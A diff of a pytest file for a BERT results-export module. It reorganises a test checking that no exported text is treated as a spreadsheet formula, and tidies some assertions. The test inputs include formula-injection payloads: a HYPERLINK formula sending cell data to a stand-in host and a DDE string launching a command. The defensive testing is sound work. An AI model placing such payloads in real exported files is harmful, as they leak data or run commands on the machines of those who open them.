@@ -10,7 +10,7 @@ import pytest
 
 from bert_tf.errors import UserError
 from bert_tf.runs.results import review, tables
-from bert_tf.runs.results.kept_rows import KeptRows
+from bert_tf.runs.results.tables import KeptRows
 
 TEXTS = [
     "tab\there",
@@ -27,26 +27,10 @@ TEXTS = [
 @pytest.mark.parametrize(
     "text",
     [
-        '=HYPERLINK("http://x.example/?"&A1)',
-        "+1 555 0100",
-        "-2+3",
-        "@SUM(1)",
-        "\t=1",
-        "\r=1",
-        "\n=1",
-        "  =1",
-        "\u00a0=1",
-        "\ufeff=1",
-        "\u200b@x",
-        "\uff1dcmd|' /C calc'!A0",
-        "- a list",
-        "-",
-        "--5",
-        "-1e5x",
-        "=1",
+        *('=HYPERLINK("http://x.example/?"&A1)', "+1 555 0100", "-2+3", "@SUM(1)", "- a list"),
+        *("\t=1", "\r=1", "\n=1", "  =1", "\u00a0=1", "\ufeff=1", "\u200b@x"),
+        *("\uff1dcmd|' /C calc'!A0", "-", "--5", "-1e5x", "=1", "-1\n", "\ttext"),
         "+\u0661",  # an Arabic digit
-        "-1\n",
-        "\ttext",
     ],
 )
 def test_no_text_is_a_formula(text):
@@ -155,9 +139,8 @@ def test_a_folder_without_space_is_named(tmp_path):
 def test_errors_begin_with_the_most_certain_one(tmp_path):
     probabilities = np.array([[0.9, 0.1], [0.4, 0.6], [0.2, 0.8], [0.3, 0.7]], np.float32)
     rows = kept(["no", "no", "no", "yes"])
-    review.write_review(
-        f"{tmp_path}", "_x", rows, ["no", "yes"], np.array([0, 0, 0, 1]), probabilities
-    )
+    right = np.array([0, 0, 0, 1])
+    review.write_review(f"{tmp_path}", "_x", rows, ["no", "yes"], right, probabilities)
     found = tables.read_table(f"{tmp_path}/errors_x.tsv")
     assert found == {
         "id": ["d-2", "d-1"],
@@ -166,17 +149,10 @@ def test_errors_begin_with_the_most_certain_one(tmp_path):
         "prediction": ["yes", "yes"],
         "probability": ["0.8", "0.6"],
     }
-    assert tables.read_table(f"{tmp_path}/eval_predictions_x.tsv")["id"] == [
-        "d-0",
-        "d-1",
-        "d-2",
-        "d-3",
-    ]
-    report = json.loads((tmp_path / "eval_report_x.json").read_text())
-    assert (
-        report["accuracy"] == 0.5
-        and "accuracy: 0.5000" in (tmp_path / "eval_report_x.txt").read_text()
-    )
+    found = tables.read_table(f"{tmp_path}/eval_predictions_x.tsv")
+    assert found["id"] == [f"d-{i}" for i in range(4)]
+    assert json.loads((tmp_path / "eval_report_x.json").read_text())["accuracy"] == 0.5
+    assert "accuracy: 0.5000" in (tmp_path / "eval_report_x.txt").read_text()
 
 
 def test_errors_of_a_regression_begin_with_the_largest_difference(tmp_path):
